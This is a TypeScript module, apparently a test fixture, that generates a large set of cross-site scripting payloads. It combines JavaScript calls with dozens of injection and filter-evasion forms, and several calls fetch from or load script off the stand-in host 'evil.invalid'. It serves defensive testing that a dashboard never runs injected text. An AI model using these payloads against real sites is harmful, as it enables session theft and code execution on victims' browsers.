/** Text that would run, or call home, wherever it is taken for markup, an address or code. */

/** Names no host: a request to it is never the dashboard's own. */
export const FOREIGN_HOST = "evil.invalid";

const CALLS = [
  "window.ran=1",
  `fetch('//${FOREIGN_HOST}/f')`,
  `import('//${FOREIGN_HOST}/m.js')`,
  "parent.ran=top.ran=1",
  "eval('window.ran=1')",
  "alert(1)",
  `location='//${FOREIGN_HOST}/l'`,
  "[].constructor.constructor('window.ran=1')()",
  `new Image().src='//${FOREIGN_HOST}/i'`,
  `document.write('<script src=//${FOREIGN_HOST}/w></script>')`,
] as const;

const SHAPES: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<math><mtext></mtext><style><img src=x onerror="${call}"></style></math>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<details open ontoggle="${call}">x</details>`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<audio src=x onerror="${call}"></audio>`,
  (call) => `<body onload="${call}">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `[x](javascript:${call})`,
  (call) => `javascript:${call}//`,
  (call) => `jAvA\tscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><img src=x onerror='${call}'>`,
  (call) => `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
  (call) => `' style='animation-name:spin' onanimationstart='${call}`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `<!--<script>${call}</script>-->`,
  (call) => `]]><script>${call}</script>`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `";${call};//`,
  (call) => `';${call};//`,
  (call) => `\\";${call};//`,
  (call) => `\u2028${call}\u2029`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
  (call) => `<link rel=stylesheet href="//${FOREIGN_HOST}/c?${call}">`,
  (call) => `<style>@import "//${FOREIGN_HOST}/s";*{background:url(//${FOREIGN_HOST}/b)}</style>${call}`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="//${FOREIGN_HOST}/"><script>${call}</script>`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) =>
    `\u001b]8;;javascript:${call}\u0007x\u001b]8;;\u0007\u001b[31m<img src=x onerror=${call}>\u001b[0m`,
  (call) => `__proto__[innerHTML]=<img/src/onerror="${call}">`,
  (call) => `<marquee onstart="${call}">x</marquee>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<portal src="//${FOREIGN_HOST}/p" onload="${call}"></portal>`,
  (call) => `<x contenteditable onblur="${call}" tabindex=1 autofocus>x</x>`,
];

/** Upper and lower case by turns: markup does not mind, filters may. */
const mixed = (text: string) =>
  text.replaceAll(/<\/?[a-z]+/g, (tag) =>
    [...tag].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join(""),
  );

export const PAYLOADS: readonly string[] = SHAPES.flatMap((shape) =>
  CALLS.flatMap((call) => [shape(call), mixed(shape(call))]),
);

/** Ends whatever a payload may have opened, so that the next one starts afresh. */
const RESET = `-->'"></textarea></title></style></script></noscript>`;

/** All payloads in so many texts. */
export function hostileTexts(count: number): string[] {
  const size = Math.ceil(PAYLOADS.length / count);
  return Array.from({ length: count }, (_, at) => PAYLOADS.slice(at * size, (at + 1) * size).join(RESET));
}
